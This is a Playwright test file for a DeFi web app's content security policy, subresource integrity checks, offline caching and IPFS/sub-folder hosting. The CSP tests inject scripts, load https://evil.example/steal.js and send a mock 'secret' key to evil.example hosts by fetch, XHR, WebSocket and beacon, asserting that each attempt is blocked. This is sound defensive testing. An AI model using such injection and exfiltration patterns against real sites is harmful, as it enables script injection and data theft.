import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { freePort } from '../../scripts/support/ports.mjs'
import { serveStatic } from '../../scripts/support/staticServer.mjs'
import { buildSite, CHAIN_ID } from '../support/site'
import { expect, test } from './support/test'
import { watchViolations } from './support/violations'

const LIST = {
  name: 'Test list',
  timestamp: '2026-01-01T00:00:00+00:00',
  version: { major: 1, minor: 0, patch: 0 },
  tokens: [{ chainId: CHAIN_ID, address: `0x${'12'.repeat(20)}`, decimals: 18, name: 'Listed', symbol: 'LST' }],
}
const title = (page: Page) => page.getByRole('heading', { level: 1 })

test.describe('content security policy', () => {
  test('is sent as a header and in the page, with the other headers', async ({ page }) => {
    const response = await page.goto('/earn')
    const headers = response?.headers() ?? {}
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
    expect(headers['x-content-type-options']).toBe('nosniff')
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
    expect(headers['content-security-policy']).toContain(policy)
  })

  test('blocks injected scripts', async ({ page, expectedErrors }) => {
    expectedErrors.push(/^This document requires 'Trusted(?:HTML|Script|ScriptURL)' assignment/)
    await page.goto('/earn')
    await expect(title(page)).toHaveText('Earn')
    const tries = await page.evaluate(async () => {
      // Code that a test evaluates may use eval; code that runs later is subject to the policy.
      await new Promise((later) => setTimeout(later))
      const outcomes: string[] = []
      const attempt = (act: () => void) => {
        try {
          act()
          outcomes.push('done')
        } catch (error) {
          outcomes.push(String(error))
        }
      }
      const mark = "document.documentElement.dataset.stolen = 'yes'"
      attempt(() => (document.body.innerHTML += `<img src="nowhere:" onerror="${mark}">`))
      attempt(() => {
        const script = document.createElement('script')
        script.textContent = mark
        document.head.append(script)
      })
      attempt(() => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/steal.js'
        document.head.append(script)
      })
      attempt(() => (Reflect.get(window, 'eval') as (code: string) => void)(mark))
      const link = document.createElement('a')
      attempt(() => link.setAttribute('onclick', mark))
      document.body.append(link)
      link.click()
      return outcomes
    })
    expect(tries.filter((outcome) => outcome === 'done')).toEqual([])
    await expect(page.locator('html')).not.toHaveAttribute('data-stolen')
  })

  test('blocks requests to hosts outside the deployment', async ({ page, siteUrl, expectedErrors }) => {
    expectedErrors.push(
      /^Connecting to '.*(?:evil\.example|127\.0\.0\.1:1)\/.*' violates/,
      /^Fetch API cannot load .*(?:evil\.example|127\.0\.0\.1:1)\/.*violates/,
    )
    const violations = await watchViolations(page)
    await page.goto('/earn')
    await expect(title(page)).toHaveText('Earn')
    await page.evaluate(() => {
      const hosted = (name: string) => `https://${name}.evil.example/?key=secret`
      for (const url of [hosted('fetch'), 'http://127.0.0.1:1/']) fetch(url, { mode: 'no-cors' }).catch(() => undefined)
      const request = new XMLHttpRequest()
      request.open('GET', hosted('xhr'))
      request.send()
      new EventSource(hosted('events')).onerror = () => undefined
      new WebSocket('wss://socket.evil.example/').close()
      navigator.sendBeacon(hosted('beacon'), 'secret')
    })
    const refused = async () =>
      new Set((await violations()).map((each) => /^connect-src (.*evil\.example|.*:1)/.exec(each)?.[1]))
    const tried = [
      'https://fetch.evil.example',
      'http://127.0.0.1:1',
      'https://xhr.evil.example',
      'https://events.evil.example',
      'wss://socket.evil.example',
      'https://beacon.evil.example',
    ]
    await expect.poll(refused).toEqual(new Set(tried))
    // The site's own host is allowed.
    expect(await page.evaluate((url) => fetch(url).then(({ status }) => status), `${siteUrl}/build.json`)).toBe(200)
  })

  test("lets the fetch worker reach the user's own node and lists on any host", async ({ page, devnet }) => {
    const violations = await watchViolations(page)
    const asked: string[] = []
    await page.route('https://node.example/**', async (route) => {
      asked.push(route.request().postData() ?? '')
      const answer = await route.fetch({ url: devnet.rpcUrl })
      await route.fulfill({ response: answer, headers: { 'access-control-allow-origin': '*' } })
    })
    await page.route('https://lists.example/tokens.json', (route) =>
      route.fulfill({ json: LIST, headers: { 'access-control-allow-origin': '*' } }),
    )
    await page.goto('/swap')
    await page.getByTestId('node-status').click()
    const nodes = page.getByRole('dialog', { name: 'Nodes' })
    await nodes.getByLabel('Your own node').fill('https://node.example/key')
    await nodes.getByRole('button', { name: 'Check and use' }).click()
    await expect(nodes.getByText(/is now used first/)).toBeVisible()
    await page.keyboard.press('Escape')

    const before = asked.length
    await page.reload()
    await expect(page.getByTestId('node-status')).toContainText(/^Block /)
    await expect.poll(() => asked.slice(before).join()).toContain('"eth_chainId"')

    await page.getByRole('button', { name: /^To/ }).click()
    await page.getByRole('button', { name: 'Manage Tokens' }).click()
    await page.getByLabel('List URL').fill('https://lists.example/tokens.json')
    await expect(page.getByText('Version 1.0.0, 1 token')).toBeVisible()
    expect(page.workers().map((worker) => new URL(worker.url()).pathname.replace(/-[\w-]+\.js$/, ''))).toEqual([
      '/assets/fetchWorker',
    ])
    expect(await violations()).toEqual([])
  })

  test('a worker that a host changed does not start', async ({ page, expectedErrors }) => {
    expectedErrors.push(
      /'integrity' attribute for resource '.*\/assets\/fetchWorker-/,
      /^Fetch API cannot load .*\/assets\/fetchWorker-.*integrity checks failed/,
    )
    await page.route(/\/assets\/fetchWorker-.*\.js$/, async (route) => {
      const answer = await route.fetch()
      await route.fulfill({ response: answer, body: `${await answer.text()};` })
    })
    await page.route('https://lists.example/tokens.json', (route) =>
      route.fulfill({ json: LIST, headers: { 'access-control-allow-origin': '*' } }),
    )
    await page.goto('/swap')
    await page.getByRole('button', { name: /^To/ }).click()
    await page.getByRole('button', { name: 'Manage Tokens' }).click()
    await page.getByLabel('List URL').fill('https://lists.example/tokens.json')
    await expect(page.getByText(/^Error importing list: /)).toBeVisible()
    expect(page.workers()).toEqual([])
  })

  for (const [what, path, chunk, words] of [
    ['the app', '/earn', /\/assets\/start-.*\.js$/, 'could not be loaded'],
    ['a page loaded later', '/portfolio', /\/assets\/PortfolioPage-.*\.js$/, 'Could not load a part of the app'],
  ] as const) {
    test(`a chunk that a host changed does not run: ${what}`, async ({ page, expectedErrors }) => {
      expectedErrors.push(
        /'integrity' attribute for resource '.*\/assets\/(?:start|PortfolioPage)-/,
        /Failed to fetch dynamically imported module: .*\/assets\/(?:start|PortfolioPage)-/,
      )
      await page.route(chunk, async (route) => {
        const answer = await route.fetch()
        await route.fulfill({
          response: answer,
          body: `${await answer.text()};document.documentElement.dataset.stolen = 'yes'`,
        })
      })
      await page.goto(path)
      await expect(page.getByText(words)).toBeVisible()
      await expect(page.locator('html')).not.toHaveAttribute('data-stolen')
    })
  }
})

/** Waits until the service worker's cache has all of the site's files that the page has loaded. */
async function expectLoadedKept(page: Page): Promise<void> {
  await expect
    .poll(() =>
      page.evaluate(async () => {
        const loaded = performance.getEntriesByType('resource').filter(({ name }) => name.includes('/assets/'))
        const kept = await Promise.all(loaded.map(({ name }) => caches.match(name)))
        return loaded.filter((_, index) => kept[index] === undefined).map(({ name }) => name)
      }),
    )
    .toEqual([])
}

/** Waits until the service worker's cache has all that the list of vaults needs. */
async function expectKeptForOffline(page: Page): Promise<void> {
  await expect(page.getByTestId('vault-card-single-eth')).toBeVisible()
  await expectLoadedKept(page)
}

/** Hides the page, like a phone that shows another app, and waits until its figures are stored. */
async function keepFigures(page: Page): Promise<void> {
  await page.evaluate(() => {
    Object.defineProperty(document, 'visibilityState', { value: 'hidden' })
    document.dispatchEvent(new Event('visibilitychange'))
  })
  const hasFigures = () =>
    page.evaluate(async () => {
      const opening = indexedDB.open('sundial')
      await new Promise((done) => (opening.onsuccess = done))
      const reading = opening.result.transaction('values').objectStore('values').count('figures')
      await new Promise((done) => (reading.onsuccess = done))
      opening.result.close()
      return reading.result > 0
    })
  await expect.poll(hasFigures).toBe(true)
}

test('a page that was visited opens offline with its last figures and their time, and says so', async ({
  browser,
  siteUrl,
}) => {
  const context = await browser.newContext({ serviceWorkers: 'allow', baseURL: siteUrl })
  const page = await context.newPage()
  await page.goto('/earn')
  await expectKeptForOffline(page)
  const card = page.getByTestId('vault-card-single-eth')
  await expect(card).toContainText(/[\d.]+ %/)
  const [apy = ''] = /[\d.]+ %/.exec(await card.innerText()) ?? []
  await keepFigures(page)
  await context.setOffline(true)
  await page.goto('/earn')
  await expect(title(page)).toHaveText('Earn')
  await expect(card).toContainText(`${apy}. Last updated at`)
  await expect(page.getByText('Showing data from', { exact: false })).toBeVisible()
  await page.getByRole('button', { name: 'Connect Wallet' }).click()
  await expect(page.getByRole('dialog', { name: 'Connect Wallet' })).toBeVisible()
  await page.keyboard.press('Escape')
  // A new page has no network either, but Chromium only reports a change.
  await context.setOffline(false)
  await context.setOffline(true)
  await expect(page.getByText('You are offline')).toBeVisible()
  await context.setOffline(false)
  await expect(page.getByText('You are offline')).toBeHidden()
  await context.close()
})

test('a picture on its way when the service worker takes over is kept too', async ({ browser, siteUrl }) => {
  const context = await browser.newContext({ serviceWorkers: 'allow', baseURL: siteUrl })
  const page = await context.newPage()
  let isHeld = false
  await page.route('**/assets/marks-*/*.svg', async (route) => {
    if (isHeld) return route.continue()
    isHeld = true
    await page.evaluate(async () => {
      const { serviceWorker } = navigator
      if (serviceWorker.controller === null)
        await new Promise((resolve) => serviceWorker.addEventListener('controllerchange', resolve, { once: true }))
    })
    await expectLoadedKept(page)
    await route.continue()
  })
  await page.goto('/earn', { waitUntil: 'commit' })
  await expectKeptForOffline(page)
  expect(isHeld).toBe(true)
  await context.close()
})

test('a new version is announced, and loads when the user agrees', async ({ page }) => {
  await page.goto('/earn')
  const build = await page.locator('meta[name="build"]').getAttribute('content')
  await expect(page.getByText(`Build ${build}`)).toBeAttached()
  const look = () => page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')))
  await page.route('**/build.json', (route) => route.fulfill({ json: { build: '<script>' } }))
  // The update listener loads after the page.
  let asked = 0
  page.on('requestfinished', (request) => (asked += Number(request.url().endsWith('/build.json'))))
  await expect.poll(async () => look().then(() => asked)).toBeGreaterThan(0)
  await expect(page.getByText('A new version is available')).toBeHidden()
  await page.unroute('**/build.json')
  await page.route('**/build.json', (route) => route.fulfill({ json: { build: '0123456789ab' } }))
  await look()
  await page.getByRole('button', { name: 'Reload' }).click()
  await expect(page.getByText('A new version is available')).toBeHidden()
  await expect(title(page)).toHaveText('Earn')
})

test.describe('in a sub-folder', () => {
  test('that is known, every path opens', async ({ page }) => {
    const folder = mkdtempSync(join(tmpdir(), 'folder-'))
    process.env['SUNDIAL_BASE'] = '/some/app/'
    await buildSite(join(folder, 'some/app')).finally(() => delete process.env['SUNDIAL_BASE'])
    const site = await serveStatic(folder, await freePort(0))
    await page.goto(`${site.url}/some/app/`)
    await page.getByRole('link', { name: 'See all vaults' }).click()
    await expect(page).toHaveURL(`${site.url}/some/app/earn`)
    await page.reload()
    await expect(title(page)).toHaveText('Earn')
    await page.getByTestId('vault-card-single-eth').getByRole('link').click()
    await expect(page).toHaveURL(`${site.url}/some/app/compound/single-eth`)
    await page.reload()
    await expect(title(page)).toHaveText('Yield optimize ETH')
    await site.close()
  })

  test('that is not known, as on IPFS, hash paths work across a reload, without headers and offline', async ({
    page,
    browser,
    expectedErrors,
  }) => {
    expectedErrors.push(/^(?:Connecting to '|Fetch API cannot load )https:\/\/evil\.example\/.*violates/)
    const violations = await watchViolations(page)
    const referers: (string | null)[] = []
    page.on('request', (request) => void request.headerValue('referer').then((referer) => referers.push(referer)))
    const folder = mkdtempSync(join(tmpdir(), 'anywhere-'))
    process.env['SUNDIAL_BASE'] = './'
    await buildSite(join(folder, 'ipfs/bafy')).finally(() => delete process.env['SUNDIAL_BASE'])
    const site = await serveStatic(folder, await freePort(0))
    await page.goto(`${site.url}/ipfs/bafy/`)
    await page.getByRole('link', { name: 'See all vaults' }).click()
    await expect(page).toHaveURL(`${site.url}/ipfs/bafy/#/earn`)
    await page.getByTestId('vault-card-single-eth').getByRole('link').click()
    await expect(title(page)).toHaveText('Yield optimize ETH')
    await page.reload()
    await expect(title(page)).toHaveText('Yield optimize ETH')
    await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    await expect(page).toHaveURL(/#\/compound\/single-eth$/)
    await expect(page.getByRole('main')).toBeFocused()
    // The policy is in the page, and no referrer is sent.
    await page.evaluate(() => fetch('https://evil.example/').catch(() => undefined))
    expect(await violations()).toEqual([expect.stringContaining('connect-src https://evil.example')])
    expect(referers.length).toBeGreaterThan(10)
    expect(referers.filter((referer) => referer !== null && referer !== '')).toEqual([])

    const context = await browser.newContext({ serviceWorkers: 'allow' })
    const visit = await context.newPage()
    await visit.goto(`${site.url}/ipfs/bafy/#/earn`)
    await expectKeptForOffline(visit)
    await context.setOffline(true)
    await visit.reload()
    await expect(title(visit)).toHaveText('Earn')
    await context.close()
    await site.close()
  })
})
